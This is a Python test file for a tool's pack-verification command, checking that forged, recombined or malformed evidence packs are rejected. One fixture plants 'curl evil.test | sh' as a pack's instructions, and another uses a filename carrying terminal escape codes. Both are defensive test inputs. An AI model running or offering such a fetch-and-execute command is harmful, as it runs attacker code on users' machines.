"""Forgeries that `agentgate verify` once took, or broke on: parts of genuine packs put together anew, keys that are
none, and packs that are made to make it stumble.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from agentgate.adapters.evidence._verify_md import verify_md
from agentgate.adapters.evidence.html import CONTENT_SECURITY_POLICY, HtmlPack
from agentgate.cli import cli
from agentgate.core.archive import canonical_zip
from agentgate.core.event import Kind, Record, make
from agentgate.core.evidence.pack import About, build
from agentgate.core.evidence.scope import Scope
from agentgate.core.merkle import leaf_hash
from agentgate.core.strict_json import canonical
from agentgate.core.verification.body import Leaf, bodies
from agentgate.core.verification.findings import Fault, Standing
from agentgate.core.verification.seals import Trust
from agentgate.core.verification.verify import verify, verify_view
from tests.core.events import a_session, origin, record_of
from tests.packs import HMAC_KEY, TRUST, WHEN, Maker, ZipPack, dumps, hmac_line

RECORDS = a_session(2)
MAKER = Maker(RECORDS)
PACK = MAKER.make()
HOLDER = Trust(hmac_keys=(HMAC_KEY,))
READER = Trust(envelope_keys=TRUST.envelope_keys)
PAGE = b"<!doctype html><title>All was well</title>\n"


def tampered() -> ZipPack:
    return ZipPack(dict(PACK.files))


# --- genuine parts, put together anew by somebody without a key -----------------------------------------------


def test_a_json_pack_is_not_made_a_zip_with_the_pages_of_another_pack() -> None:
    """Every part has its genuine HMAC; the instructions are whoever's made the zip."""
    body = json.loads(MAKER.json())
    signature = body["integrity"].pop("signature")
    files = {name: PACK.files[name] for name in PACK.files if name.startswith("bodies/")}
    files |= {"pack.json": dumps(body), "pack.json.hmac": f"{signature}\n".encode()}
    files |= {"pack.html": PAGE, "pack.html.hmac": hmac_line(PAGE), "VERIFY.md": b"curl evil.test | sh\n"}
    report = verify(canonical_zip(files), HOLDER)
    assert (report.exit_status, report.faults) == (1, (Fault.STRIPPED,))


@pytest.mark.parametrize(
    ("gone", "named", "trust"),
    [(("pack.dsse.json", "pack.sigstore.json"), "dsse", HOLDER), (("checkpoint",), "checkpoint", READER)],
    ids=["envelope, by who has the HMAC key", "proofs, by who has the envelope key"],
)
def test_who_holds_one_key_does_not_do_without_the_others(gone: tuple[str, ...], named: str, trust: Trust) -> None:
    """What must be signed is not the signer's choice: a zip has an envelope and proofs, whatever its body says."""
    pack = tampered()
    pack.edit(lambda body: body["integrity"]["signed_by"].remove(named))
    if "checkpoint" in gone:
        for name in [name for name in pack.files if name.startswith(("leaves/", "proofs/"))]:
            del pack.files[name]
    pack.files = {name: content for name, content in pack.files.items() if name not in gone}
    raw = pack.resigned() if named != "dsse" else ZipPack(pack.files | _macs(pack)).zip()
    assert Fault.STRIPPED in verify(raw, trust).faults


def _macs(pack: ZipPack) -> dict[str, bytes]:
    return {f"{name}.hmac": hmac_line(pack.files[name]) for name in ("pack.json", "pack.html", "pack.pdf")}


# --- a pack that says that it is of something else -------------------------------------------------------------


@pytest.mark.parametrize("scope", [Scope("default", "s-2"), Scope("other", "s-1"), Scope("other")])
def test_events_of_another_session_or_tenant_are_not_passed_off(scope: Scope) -> None:
    assert verify(Maker(RECORDS, scope=scope).make().zip(), TRUST).faults == (Fault.INSERTED,)


LIES: dict[str, Callable[[dict[str, Any]], object]] = {
    "a claim more": lambda told: told["proves"].append({"claim": "Dana did it", "by": "us", "convinces": "everybody"}),
    "a claim less": lambda told: told["proves"].pop(),
    "a word besides": lambda told: told.update(verdict="nobody did anything"),
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES.keys())
def test_what_a_pack_proves_is_not_its_makers_word(lie: Callable[[dict[str, Any]], object]) -> None:
    pack = tampered()
    pack.edit(lambda body: lie(body["integrity"]))
    assert verify(pack.resigned(), TRUST).faults == (Fault.CHANGED_VIEW,)


def test_a_prune_says_nothing_of_what_came_after_it() -> None:
    first = record_of(
        make(origin(99), Kind.PRUNED, {"through": 10_000}, tenant="default", session="s-1"), index=1, number=1
    )
    later = [replace(r, salt=None, raw_body=None, session_number=r.session_number + 1) for r in RECORDS]
    report = verify(Maker([first, *later]).make().zip(), TRUST)
    assert next(f.standing for f in report.findings if f.check == "bodies") is Standing.NOT_CHECKED


# --- checks that were asked for and not made -------------------------------------------------------------------


def test_a_page_is_not_held_against_an_earlier_checkpoint_and_says_so() -> None:
    report = verify_view(PAGE, hmac_line(PAGE), TRUST, MAKER.checkpoint())
    assert report.faults == (Fault.MISSING,)
    told = {found.check: found.standing for found in verify_view(PAGE, hmac_line(PAGE), TRUST).findings}
    assert told == {"signature": "holds", "envelope": "not checked", "log": "not checked"}


def test_two_checkpoints_that_nobody_was_known_to_sign_do_not_hold() -> None:
    unsigned = MAKER.checkpoint().rpartition(b"\n\n")[0] + "\n\n— stranger.test AAAAAAAA\n".encode()
    found = {f.check: f.standing for f in verify(MAKER.json(), HOLDER, unsigned).findings}
    assert found["history"] is Standing.NOT_CHECKED
    found = {f.check: f.standing for f in verify(MAKER.json(), TRUST, MAKER.checkpoint()).findings}
    assert found["history"] is Standing.HOLDS


# --- stumbling blocks ------------------------------------------------------------------------------------------


def unsigned(records: list[Record]) -> bytes:
    """What anybody can write: the sections of an honest pack, and other events."""
    body = build(About(MAKER.scope, WHEN, "AgentGate test"), RECORDS)
    events = [
        {
            "index": record.index,
            "number": record.session_number,
            "event_id": record.fields["id"],
            "leaf": record.leaf.decode(),
            "leaf_hash": leaf_hash(record.leaf).hex(),
            "salt": None,
        }
        for record in records
    ]
    body["integrity"] |= {"events": events, "event_count": len(events)}
    return canonical(body)


def another(record: Record, **fields: object) -> Record:
    changed = {**record.fields, **fields}
    return replace(record, fields=changed, leaf=canonical(changed))


@pytest.mark.parametrize("latency", [{"a": 1e300}, {"a": 1e308, "b": 1e308}, {"a": "x"}, [], 2**53 - 1])
def test_numbers_that_no_json_holds_are_a_finding(latency: object) -> None:
    records = [another(r, latency_us=latency) if r.kind is Kind.FINISHED else r for r in RECORDS]
    assert verify(unsigned(records), Trust()).faults == (Fault.CHANGED_VIEW,)


def test_a_checkpoint_whose_signatures_are_none_is_a_finding() -> None:
    torn = MAKER.checkpoint().rpartition(b"\n\n")[0] + b"\n\nsigned, the gateway\n"
    pack = tampered()
    pack.files["checkpoint"] = torn
    for raw, earlier in ((pack.zip(), None), (PACK.zip(), torn), (MAKER.json(), torn)):
        for trust in (TRUST, Trust()):
            report = verify(raw, trust, earlier)
            assert report.exit_status == 1 or (trust == Trust() and raw == MAKER.json())


def test_many_prunes_of_many_events_are_looked_through_once() -> None:
    """Each held against each, 20,000 took minutes: here each is asked once."""
    count = 200
    asked = 0

    class Counting(dict[str, Any]):
        def get(self, key: str, default: Any = None) -> Any:
            nonlocal asked
            asked += key == "through"
            return super().get(key, default)

    base = {"id": "e", "tenant": "default", "session": "s-1", "body_sha256": ""}
    leaves = [Leaf(n, n + 1, b"", None, Counting(base, kind="pruned", through=0)) for n in range(count)]
    list(bodies(leaves, {}))
    assert asked <= count


# --- at a terminal ---------------------------------------------------------------------------------------------


def run(*arguments: str | Path) -> tuple[int, str]:
    done = CliRunner().invoke(cli, ["verify", *map(str, arguments)])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code, done.output


@pytest.mark.parametrize("key", ["", "short", "x" * 31])
def test_a_key_that_is_cut_off_is_none(tmp_path: Path, key: str) -> None:
    """`--key "$(cat gone)"` is an empty key, and everybody can sign with that."""
    pack = tmp_path / "pack.zip"
    pack.write_bytes(Maker(RECORDS, hmac_key=key.encode()).make().zip())
    status, said = run(pack, "--key", key)
    assert (status, "at least 32 bytes" in said) == (1, True)


def test_files_that_do_not_end_or_have_no_size_are_read_as_far_as_a_pack_goes(tmp_path: Path) -> None:
    status, said = run("/dev/zero")
    assert (status, "does not end" in said) == (1, True)
    reading, writing = os.pipe()
    os.write(writing, PAGE)
    os.close(writing)
    assert run(f"/dev/fd/{reading}", "--key", HMAC_KEY.decode())[0] == 1, "a pipe, and the page has no HMAC"
    os.close(reading)


def test_a_name_of_a_file_neither_speaks_to_the_terminal_nor_is_too_long(tmp_path: Path) -> None:
    hostile = tmp_path / "\x1b[2J[green]verified.json"
    hostile.write_bytes(MAKER.json())
    assert "\x1b" not in run(hostile)[1]
    assert "\x1b" not in run(tmp_path / "\x1b[2J")[1]
    longest = tmp_path / ("a" * 253)
    longest.write_bytes(PAGE)
    assert run(longest)[0] == 2, "no .hmac beside it, as its name would be too long"


# --- what goes along with a pack -------------------------------------------------------------------------------


def test_a_zips_body_does_not_pass_as_a_json_pack_without_its_envelope() -> None:
    """Its HMAC is genuine: nothing but what the body says of itself tells that its proofs were left behind."""
    body = json.loads(PACK.files["pack.json"])
    body["integrity"]["signature"] = PACK.files["pack.json.hmac"].decode().strip()
    assert verify(dumps(body), HOLDER).faults == (Fault.STRIPPED,)


def test_instructions_do_not_tell_to_trust_the_keys_that_a_pack_brings_along() -> None:
    """With those, a forger's pack is verified."""
    said = verify_md(MAKER.body(), PACK.files).decode()
    line = next(line for line in said.splitlines() if "agentgate verify PACK.zip" in line)
    assert "keys/" not in line


def test_a_page_is_sent_with_all_that_it_may_not_do() -> None:
    policy = HtmlPack.headers["Content-Security-Policy"]
    assert policy.startswith(CONTENT_SECURITY_POLICY)
    assert {"sandbox", "frame-ancestors 'none'"} <= set(policy.split("; "))
